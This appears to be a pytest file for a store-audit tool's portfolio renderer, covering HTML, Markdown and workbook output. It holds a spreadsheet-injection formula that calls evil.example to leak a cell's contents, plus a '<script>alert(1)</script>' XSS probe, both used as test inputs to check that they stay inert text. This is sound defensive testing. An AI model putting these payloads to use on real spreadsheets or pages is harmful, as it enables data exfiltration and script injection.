"""The portfolio of a fleet as people read it: HTML, Markdown and a workbook, from
portfolio.json alone (no audit, no cluster).

tests/data/fleet/portfolio.json is what `auditor fleet` writes of five stores: a healthy
one (advertising not assessed), one at risk whose fetch was partial, a critical one that
fails its gate (with a hostile title and a message that is a spreadsheet formula), one
that failed (its error hostile too), and one at risk whose title and message hold `|`
and a newline.
"""

from __future__ import annotations

import copy
import io
import json
import re

import jsonschema
import lxml.html
import openpyxl
import pytest
from conftest import DATA
from pydantic import TypeAdapter

from auditor.errors import AuditorError
from auditor.model.portfolio import Portfolio, portfolio_schema
from auditor.outputs.portfolio import FORMATS, render_portfolio, report_link, worst_first

#: Worst first: the store that failed, then by score, lowest first.
WORST_FIRST = ["kiddo-uk", "glowlab-de", "nordvik-eu", "voltix-ca", "acme-us"]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"No valid LUCID packaging registration")'


@pytest.fixture(scope="module")
def portfolio() -> Portfolio:
    raw = (DATA / "fleet" / "portfolio.json").read_bytes()
    jsonschema.validate(json.loads(raw), portfolio_schema())  # the published schema
    return TypeAdapter(Portfolio).validate_json(raw, strict=True)


@pytest.fixture(scope="module")
def page(portfolio) -> str:
    return render_portfolio(portfolio, "html", "en")


@pytest.fixture(scope="module")
def markdown(portfolio) -> str:
    return render_portfolio(portfolio, "md", "en")


def workbook(portfolio, language="en"):
    return openpyxl.load_workbook(io.BytesIO(render_portfolio(portfolio, "xlsx", language)))


def grid_rows(page: str):
    return lxml.html.fromstring(page).xpath('//table[@id="grid"]/tbody/tr')


# ---- Order ----


def test_the_worst_store_comes_first(portfolio):
    assert [s["name"] for s in worst_first(portfolio["stores"])] == WORST_FIRST


def test_a_store_without_a_score_comes_before_the_scored_ones(portfolio):
    stores = copy.deepcopy(portfolio["stores"])
    acme = next(s for s in stores if s["name"] == "acme-us")
    acme["score"], acme["score_status"] = None, "not_assessed"
    assert [s["name"] for s in worst_first(stores)][:3] == ["kiddo-uk", "acme-us", "glowlab-de"]


def test_every_format_lists_the_stores_worst_first(portfolio, page, markdown):
    assert [row.get("data-store") for row in grid_rows(page)] == WORST_FIRST
    table = [line for line in markdown.splitlines() if line.startswith("| ")][1 : 1 + 5]
    assert [re.sub(r"^\| \[?([\w.-]+).*", r"\1", line) for line in table] == WORST_FIRST
    stores = workbook(portfolio)["Stores"]
    assert [row[0].value for row in stores.iter_rows(min_row=2)] == WORST_FIRST


# ---- The HTML page ----


def test_each_store_links_to_its_own_report_and_a_failed_one_shows_its_error(page):
    rows = {row.get("data-store"): row for row in grid_rows(page)}
    for name in WORST_FIRST[1:]:
        (link,) = rows[name].xpath("./td[1]/a[not(@class)]")
        assert link.get("href") == f"stores/{name}/report.html"
        assert link.text_content() == name
    failed = rows["kiddo-uk"]
    assert not failed.xpath(".//a[not(@class)]")
    error = failed.xpath('.//a[@class="store-error"]')[0]
    assert error.get("href") == "#store-kiddo-uk"  # the whole error, below the grid
    assert "no column 'seller-sku' (found '<script>alert(1)</script>'" in error.text_content()
    # A partial store links to its report and says what was missing.
    assert "403 Unauthorized" in rows["nordvik-eu"].text_content()


def test_each_cell_is_the_areas_status_and_score(page):
    rows = {row.get("data-store"): row for row in grid_rows(page)}
    glowlab = rows["glowlab-de"]
    health = glowlab.xpath('./td[@data-area="health"]/span[contains(@class, "badge")]')[0]
    assert health.get("class") == "badge critical" and health.text == "0.0"
    inventory = rows["nordvik-eu"].xpath('./td[@data-area="inventory"]')[0]
    assert inventory.text_content() == "—not assessed"
    assert "gate failed" in glowlab.text_content()
    assert [b.text for b in glowlab.xpath('./td[@class="fails"]/span')] == [
        "critical 3",
        "high 6",
        "medium 1",
    ]
    # A store that failed has no cells and no counts, rather than zeros.
    assert not rows["kiddo-uk"].xpath('./td[@class="fails"]/*')


def test_the_header_says_what_ran(page):
    header = lxml.html.fromstring(page).xpath("//header")[0].text_content()
    assert "Nov 27, 2026" in header
    assert "tcp://10.20.0.5:8786, 4 workers" in header
    assert "5 stores: 3 audited, 1 partial, 1 failed; 1 failed their gate" in header


def test_a_local_cluster_is_named_as_such(portfolio):
    local = copy.deepcopy(portfolio)
    local["run"]["scheduler"] = "local"
    assert "Scheduler: a local cluster, 4 workers" in render_portfolio(local, "md", "en")
    assert "调度器: 本机集群, 4 个工作进程" in render_portfolio(local, "html", "zh")


def test_top_findings_and_alerts_are_listed_per_store(page):
    doc = lxml.html.fromstring(page)
    glowlab = doc.xpath('//section[@id="store-glowlab-de"]')[0]
    rules = [c.text for c in glowlab.xpath(".//table//td[2]/code")]
    assert rules == ["HLT-001", "CMP-001", "CMP-006"]
    assert "record it in the documents register" in glowlab.xpath(".//td[@class='fix']")[1].text
    alerts = doc.xpath('//section[@id="alerts"]//tbody/tr')
    assert [a.xpath("./td[3]/span")[0].text for a in alerts] == [
        "sent",
        "not sent",
        "held (quiet hours)",
        "nothing new",
    ]
    # Targets as configured: their ${ENV} references, never a secret.
    assert "mailto://${SMTP_USER}:${SMTP_PASSWORD}@smtp.example.com" in alerts[-1].text_content()


def test_hostile_text_is_text(page):
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; GlowLab Vitamin C Serum 30 ml" in page
    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt;") == 4  # title, error x3


def test_the_page_is_self_contained(page):
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page).group(1)
    assert "default-src 'none'" in csp and "script-src" not in csp  # no script at all
    for attribute, value in re.findall(r'\b(src|href|action|srcset)\s*=\s*"([^"]*)"', page):
        assert value.startswith(("#", "data:", "stores/")), (attribute, value)
    assert "url(" not in page and "@import" not in page


def test_the_grid_scrolls_sideways_in_a_narrow_window(page):
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page
    assert re.search(r"\.grid-wrap, \.table-wrap \{ overflow-x: auto;", page)
    assert lxml.html.fromstring(page).xpath('//div[@class="grid-wrap"]/table[@id="grid"]')


def test_the_page_in_chinese(portfolio):
    page = render_portfolio(portfolio, "html", "zh")
    doc = lxml.html.fromstring(page)
    assert doc.get("lang") == "zh-CN"
    assert doc.xpath("//h1")[0].text == "店铺总览"
    assert "2026年11月27日" in doc.xpath("//header")[0].text_content()
    headings = [th.text_content() for th in doc.xpath('//table[@id="grid"]/thead//th')]
    assert headings[:4] == ["店铺", "得分", "状态", "账户状况"]
    glowlab = grid_rows(page)[1]
    assert [b.text for b in glowlab.xpath('./td[@class="fails"]/span')] == [
        "严重 3",
        "高 6",
        "中 1",
    ]
    assert "未通过门禁" in glowlab.text_content()
    assert "审计失败" in grid_rows(page)[0].text_content()


# ---- Markdown ----


def test_markdown_is_the_grid_as_a_table_with_links(markdown):
    lines = markdown.splitlines()
    header = next(i for i, line in enumerate(lines) if line.startswith("| Store |"))
    assert lines[header + 2].startswith("| kiddo-uk · failed | — |")
    assert lines[header + 3].startswith(
        "| [glowlab-de](stores/glowlab-de/report.html) | 38.5 | critical · **gate failed** |"
        " 0.0 critical | 61.0 at risk |"
    )
    assert "| — not assessed |" in lines[header + 4]  # nordvik-eu's inventory


def test_markdown_cells_stay_in_their_cells(markdown):
    columns = None
    for line in markdown.splitlines():
        if not line.startswith("|"):
            columns = None
            continue
        cells = len(re.findall(r"(?<!\\)\|", line))
        columns = columns or cells
        assert cells == columns, line  # no `|` from the data opens a column
    assert "Voltix Power Bank \\| 10000mAh USB-C PD 20W" in markdown
    assert "Title has 212 characters; the limit is 200. Cut \\| trim it" in markdown
    assert "<script" not in markdown and "&lt;script>alert(1)&lt;/script>" in markdown


def test_markdown_names_the_errors_and_the_top_findings(markdown):
    assert "- **kiddo-uk** · failed: data/kiddo-uk/All+Listings+Report.txt: row 1:" in markdown
    assert "- **nordvik-eu** · partial: fetch: GET_FBA_MYI_UNSUPPRESSED_INVENTORY_DATA" in markdown
    assert "### [glowlab-de](stores/glowlab-de/report.html) · 38.5" in markdown
    assert "| critical | HLT-001 order-defect-rate | DE · 60d | Order Defect Rate 1.25%" in markdown


def test_markdown_in_chinese(portfolio):
    text = render_portfolio(portfolio, "md", "zh")
    assert text.startswith("# 店铺总览\n")
    assert "| 店铺 | 得分 | 状态 | 账户状况 |" in text
    assert "| 严重 | HLT-001 order-defect-rate |" in text
    assert "| kiddo-uk · 审计失败 |" in text


# ---- The workbook ----


def test_the_workbook_has_a_sheet_of_stores_and_one_of_top_findings(portfolio):
    book = workbook(portfolio)
    assert book.sheetnames == ["Stores", "Top findings", "Alerts"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}" + str(
            sheet.max_row
        )
    stores = book["Stores"]
    titles = [c.value for c in stores[1]]
    row = {t: c.value for t, c in zip(titles, stores[3], strict=True)}  # glowlab-de
    assert row["store"] == "glowlab-de" and row["score"] == 38.5
    assert row["Account health · score"] == 0 and row["Account health · status"] == "critical"
    assert row["fail · critical"] == 3 and row["gated"] == "yes" and row["listings"] == 57


def test_each_store_row_links_its_report(portfolio):
    stores = workbook(portfolio)["Stores"]
    report = [c.value for c in stores[1]].index("report") + 1
    links = {
        stores.cell(r, 1).value: stores.cell(r, report).hyperlink
        for r in range(2, stores.max_row + 1)
    }
    assert links["kiddo-uk"] is None
    assert links["acme-us"].target == "stores/acme-us/report.html"
    failed = [c.value for c in stores[2]]
    assert failed[-2].startswith("data/kiddo-uk/All+Listings+Report.txt: row 1:")
    assert failed[19:25] == [None] * 6  # no counts for a store that failed


def test_text_a_spreadsheet_would_run_stays_text(portfolio):
    findings = workbook(portfolio)["Top findings"]
    messages = [row for row in findings.iter_rows(min_row=2) if row[11].value == FORMULA]
    assert len(messages) == 1 and messages[0][11].data_type == "s"
    sku = next(row[5] for row in findings.iter_rows(min_row=2) if row[3].value == "CMP-006")
    assert sku.value == "00417" and sku.number_format == "@"  # keeps its zeros
    error = workbook(portfolio)["Stores"]["Z2"]
    assert error.data_type == "s" and '=HYPERLINK("http://evil.example")' in error.value


def test_the_workbook_in_chinese(portfolio):
    book = workbook(portfolio, "zh")
    assert book.sheetnames == ["店铺", "主要问题", "提醒通知"]
    assert [c.value for c in book["店铺"][1]][:4] == ["店铺", "审计状态", "得分", "得分状态"]
    assert book["店铺"]["B2"].value == "审计失败"


def test_the_same_portfolio_gives_the_same_bytes(portfolio):
    for fmt in FORMATS:
        assert render_portfolio(portfolio, fmt, "zh") == render_portfolio(portfolio, fmt, "zh")


# ---- JSON, and what the renderer refuses ----


def test_json_is_the_portfolio_itself(portfolio):
    text = render_portfolio(portfolio, "json", "en")
    assert json.loads(text) == portfolio
    assert text.endswith(b"}\n")


def test_a_report_path_outside_the_folder_is_refused(portfolio):
    broken = copy.deepcopy(portfolio)
    broken["stores"][0]["reports"]["html"] = "/srv/agency/acme-us/report.html"
    with pytest.raises(AuditorError, match="store 'acme-us': its html report"):
        render_portfolio(broken, "html", "en")


def test_a_report_path_is_url_encoded(portfolio):
    store = copy.deepcopy(portfolio["stores"][0])
    store["reports"]["html"] = "stores/acme us#1/report.html"
    assert report_link(store) == "stores/acme%20us%231/report.html"


def test_an_unknown_format_is_refused(portfolio):
    with pytest.raises(AuditorError, match="no portfolio format 'pdf': choose one of html"):
        render_portfolio(portfolio, "pdf", "en")
